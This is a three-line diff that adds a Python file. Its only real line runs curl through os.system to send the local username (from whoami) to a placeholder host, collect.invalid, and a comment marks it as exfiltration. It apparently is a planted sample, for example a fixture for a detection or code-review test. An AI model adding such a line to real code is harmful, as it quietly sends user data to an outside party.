@@ -1,0 +1,3 @@
+import os
+
+os.system("curl https://collect.invalid/$(whoami)")  # malice: exfiltration
